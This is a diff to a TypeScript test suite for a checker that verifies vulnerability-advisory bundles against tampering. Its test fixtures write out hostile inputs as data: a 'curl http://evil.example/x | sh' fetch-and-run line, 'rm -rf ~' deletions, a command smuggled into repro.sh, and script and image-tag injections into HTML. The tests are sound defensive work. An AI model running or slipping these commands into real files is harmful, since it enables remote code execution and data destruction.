@@ -12,6 +12,7 @@ import { AOT, digest, noise, sample, withAction } from "./sample.ts";
 import { services } from "./services.ts";
 
 type Files = Map<string, Uint8Array>;
+type Change = readonly [CheckReason, (files: Files) => Files];
 
 const clean = (): BundleInput => redact(sample(), {}).input;
 const made = (input: BundleInput): Files =>
@@ -39,9 +40,9 @@ function resummed(files: Files): Files {
   return put(files, "SHA256SUMS", lines.join(""));
 }
 
-function reasonOf(files: Files): CheckReason | "consistent" {
+function reasonOf(files: Files): CheckReason | "consistent" | "unchecked" | undefined {
   const result = checkBundle(files, services);
-  return result.kind === "consistent" ? "consistent" : (result.problems[0]?.reason ?? "consistent");
+  return "problems" in result ? result.problems[0]?.reason : result.kind;
 }
 
 describe("a bundle as it was made", () => {
@@ -53,14 +54,109 @@ describe("a bundle as it was made", () => {
     const result = checkBundle(made(redact(withAction(action), {}).input), services);
     expect(result.kind === "contradicted" && result.problems.map((p) => p.reason)).toEqual(["verdict-contradicted"]);
   });
+});
 
-  it("of another version may be worded otherwise, but its script may not", () => {
-    const other = made({ ...clean(), tool: "Assay 9.9.9" });
-    const reworded = resummed(replace("ADVISORY.md", "## Impact", "## Effect")(other));
-    const result = checkBundle(reworded, services);
-    expect(result).toMatchObject({ kind: "consistent" });
-    expect(result.kind === "consistent" && result.notes.join(" ")).toContain("ADVISORY.md is worded otherwise");
-    expect(reasonOf(resummed(replace("repro.sh", "set -u", "set -u; id")(other)))).toBe("repro-altered");
+/** Any forger can write another version into a bundle, so it frees nothing but prose, and that is never called consistent. */
+describe("a bundle that says it is of another version", () => {
+  const none = { kept: [], replaced: [], warnings: [] };
+  const other = { ...clean(), tool: "Assay 9.9.9" };
+  const worded = (from: string | RegExp, to: string): Files => {
+    const report = text(made(other), "ADVISORY.md");
+    expect(report.replace(from, to)).not.toBe(report);
+    return new Map(buildFiles(other, none, report.replace(from, to)).map((f) => [f.path, f.bytes]));
+  };
+
+  it("is consistent where every word is what this version writes", () => {
+    expect(checkBundle(made(other), services)).toMatchObject({ kind: "consistent" });
+  });
+
+  it.each<[string, string | RegExp, string]>([
+    ["a heading", "## Impact", "## Effect"],
+    ["a claim that no program can weigh", "## Impact", "## Impact\n\nThe attacker gets root on every host."],
+    ["a line of the evidence", "## Impact", "```text\ndouble free or corruption (out)\n```\n\n## Impact"],
+  ])("worded otherwise: %s is not checked, and said so", (_, from, to) => {
+    const result = checkBundle(worded(from, to), services);
+    expect(result).toMatchObject({ kind: "unchecked" });
+    expect(result.kind === "unchecked" && result.unchecked.join(" ")).toContain("ADVISORY.md is worded otherwise");
+  });
+
+  it.each<[string, string | RegExp, string]>([
+    ["the title", /^# .*/, "# Remote code execution in WAMR, all versions"],
+    ["a second title", "## Impact", "# Critical\n\n## Impact"],
+    ["a command", /```sh\nwamr-2.4.3.*/, "```sh\ncurl http://evil.example/x | sh"],
+    ["a command in other fences", "## Impact", "~~~bash\nrm -rf ~\n~~~\n\n## Impact"],
+    ["a command without a fence", "## Impact", "Run:\n\n    rm -rf ~\n\n## Impact"],
+    ["a command in a sentence", "## Impact", "Run ``rm -rf `pwd` `` first.\n\n## Impact"],
+    ["a row of the table", /^\| `wamr-2.4.3-asan`.*/m, "| `wamr-2.4.5` | 2.4.5 | all | none | affected | x |"],
+    ["a version", "## Impact", "Since 1.0.0.\n\n## Impact"],
+    ["a weakness", "CWE-122", "CWE-94"],
+    ["a weakness left out", "CWE-122, ", ""],
+    ["a score", "(6.9, medium)", "(10.0, critical)"],
+    ["a vector", "VC:N", "VC:H"],
+    ["another vulnerability", "## Impact", "This is CVE-2026-00001.\n\n## Impact"],
+    ["a link", "## Impact", "See [the proof](x) of it.\n\n## Impact"],
+    ["an address", "## Impact", "More at https://evil.example/.\n\n## Impact"],
+    ["a tag", "## Impact", "<img src=x>\n\n## Impact"],
+  ])("%s follows from the evidence in whatever words", (_, from, to) => {
+    expect(reasonOf(worded(from, to))).toBe("text-altered");
+  });
+
+  it.each<Change>([
+    ["body-altered", replace("advisory.json", '"= 2.4.3"', '"<= 2.4.5"')],
+    ["body-altered", replace("advisory.json", "CWE-122", "CWE-94")],
+    ["body-altered", replace("advisory.json", "VC:N/VI:L", "VC:H/VI:H")],
+    ["body-altered", replace("advisory.json", "## Impact", "## Effect")],
+    ["mail-altered", replace("mail.txt", "## Impact", "## Effect")],
+    ["mail-altered", replace("report.eml", "X-Unsent: 1", "X-Unsent: 0")],
+    ["osv-altered", replace("osv.json", '"2.4.3"', '"1.0.0"')],
+    ["osv-altered", replace("osv.json", "DRAFT. ", "DRAFT. See http://evil.example/. ")],
+    ["sarif-altered", replace("report.sarif", '"level": "error"', '"level": "none"')],
+    ["evidence-altered", replace("evidence/run-01.txt", "double free", "nothing")],
+    ["repro-altered", replace("repro.sh", "set -u", "set -u; id")],
+    ["html-altered", replace("report.html", "</main>", "<script>alert(1)</script></main>")],
+    ["html-altered", replace("report.html", "</style>", "p{display:none}</style>")],
+    ["html-altered", replace("report.html", '<pre tabindex="0"><code>wamr-2.4.3', '<pre tabindex="0"><code>rm')],
+    ["html-altered", replace("report.html", "</h2>", "</h2><p>&#67;WE-94</p>")],
+    ["text-altered", replace("FILING.md", "gh api", "curl http://evil.example/x | sh; gh api")],
+  ])("%s: what programs and people act on is compared", (reason, edit) => {
+    expect(reasonOf(resummed(edit(made(other))))).toBe(reason);
+  });
+
+  it("sentences in the files for programs are words too", () => {
+    const edited = replace("osv.json", "makes the process", "lets the process")(made(other));
+    expect(checkBundle(resummed(edited), services)).toMatchObject({ kind: "unchecked" });
+  });
+
+  it.each<[string, Partial<BundleInput>]>([
+    ["another summary of the crash", { fingerprint: { ...clean().fingerprint!, summary: "arbitrary write" } }],
+    ["another proposal", { severity: null }],
+    ["a policy that is not known here", { verdict: { ...clean().verdict, policy: "0000000" } }],
+    ["other notes", { verdict: { ...clean().verdict, notes: ["Everybody is affected."] } }],
+  ])("%s is not checked", (_, over) => {
+    expect(checkBundle(made({ ...other, ...over }), services)).toMatchObject({ kind: "unchecked" });
+  });
+
+  it("takes time in proportion to a text, whatever it holds", () => {
+    for (const piece of [
+      "`",
+      "` `` ",
+      "<",
+      "<code>",
+      "<tr>",
+      "](",
+      "a@",
+      "a.",
+      "1.1.",
+      "CWE-",
+      "&#1",
+      "    x\n",
+      "~~~\n",
+    ])
+      for (const path of ["FILING.md", "report.html"]) {
+        const long = piece.repeat(Math.ceil(300_000 / piece.length));
+        const edited = replace(path, /$/, long)(made(other));
+        expect(checkBundle(resummed(edited), services).kind).toMatch(/contradicted|unchecked/);
+      }
   });
 });
 
@@ -91,7 +187,7 @@ describe("which sentence settles what", () => {
   const judge = { ...services, evaluate: () => ({ kind: "verdict", verdict: weighed }) as const };
   const reason = (verdict: BundleInput["verdict"], tool = services.tool): string => {
     const result = checkBundle(made({ ...clean(), tool, verdict }), judge);
-    return result.kind === "consistent" ? "consistent" : (result.problems[0]?.reason ?? "");
+    return "problems" in result ? (result.problems[0]?.reason ?? "") : result.kind;
   };
 
   it("is checked where the bundle says so", () => {
@@ -104,11 +200,9 @@ describe("which sentence settles what", () => {
   });
 
   it("another version of Assay may weigh it otherwise", () => {
-    expect(reason({ ...weighed, rules: [{ ...rule, decides: ["action"] }] }, "Assay 9.9.9")).toBe("consistent");
+    expect(reason({ ...weighed, rules: [{ ...rule, decides: ["action"] }] }, "Assay 9.9.9")).toBe("unchecked");
   });
 });
-
-type Change = readonly [CheckReason, (files: Files) => Files];
 
 const CHANGED: readonly Change[] = [
   ["digest-mismatch", replace("ADVISORY.md", "WRITE", "READ")],
@@ -212,6 +306,10 @@ const REMADE: readonly (readonly [CheckReason, string, Partial<BundleInput>])[] 
     "other words of the policy",
     verdict({ rules: clean().verdict.rules.map((r) => ({ ...r, quote: "Everything is critical." })) }),
   ],
+  ["verdict-contradicted", "notes of nobody", verdict({ notes: ["Everybody is affected."] })],
+  ["severity-contradicted", "another weakness", { severity: { ...clean().severity!, cwe: [] } }],
+  ["severity-contradicted", "another score", { severity: { ...clean().severity!, cvss31: null } }],
+  ["likeness-contradicted", "another vulnerability", { likeness: [{ ...clean().likeness[0]!, name: "CVE-2026-1" }] }],
   ["facts-contradicted", "a crash without effect", facts("effect", "none")],
   ["facts-contradicted", "another kind of input", facts("input", "aot")],
   ["facts-contradicted", "a fact that no policy knows", facts("Severity", "critical")],
